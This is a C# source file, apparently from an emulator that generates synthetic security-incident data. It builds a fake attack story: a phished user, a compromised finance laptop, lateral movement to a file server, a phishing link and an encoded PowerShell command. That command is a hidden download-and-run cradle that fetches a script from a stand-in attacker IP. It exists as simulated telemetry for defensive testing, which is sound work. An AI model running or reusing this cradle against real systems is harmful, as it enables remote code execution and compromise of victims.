using System.Text;

namespace DefenderMcp.Emulator.Data;

/// <summary>The attack story of a tenant: who, where, when, and the artefacts each step leaves.</summary>
public sealed class Story(StoryNames names, IReadOnlyList<Device> devices, DateTime now)
{
    /// <summary>The phished user.</summary>
    public string User { get; } = names.Users[0];

    /// <summary>The first compromised workstation (a finance laptop).</summary>
    public Device Victim { get; } = devices.First(d => d.Name.Contains("-fin-lt-", StringComparison.Ordinal));

    /// <summary>The file server reached by lateral movement.</summary>
    public Device Server { get; } = devices.First(d => d.Name.Contains("-srv-file-", StringComparison.Ordinal));

    /// <summary>The workstations other than <see cref="Victim"/>, in device order (their users are given in this order).</summary>
    public IReadOnlyList<Device> OtherWorkstations { get; } =
        [.. devices.Where(d => d.Kind == "Workstation" && d != devices.First(v => v.Name.Contains("-fin-lt-", StringComparison.Ordinal)))];

    /// <summary>When the phishing mail arrived (about 20 hours ago).</summary>
    public DateTime Start { get; } = now.AddHours(-20);

    /// <summary>The phishing link.</summary>
    public string PhishUrl { get; } = $"https://{names.AttackerDomain}/payroll/verify?u={names.Users[0]}";

    /// <summary>The phishing mail's network message id.</summary>
    public string MessageId { get; } = DataGenerator.Guid(names.Domain + "phish");

    /// <summary>The encoded PowerShell command line.</summary>
    public string EncodedCommand { get; } =
        "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand " +
        Convert.ToBase64String(Encoding.Unicode.GetBytes($"IEX (New-Object Net.WebClient).DownloadString('http://{names.AttackerIp}/a.ps1')"));

    /// <summary>The names of the tenant.</summary>
    public StoryNames Names { get; } = names;
}
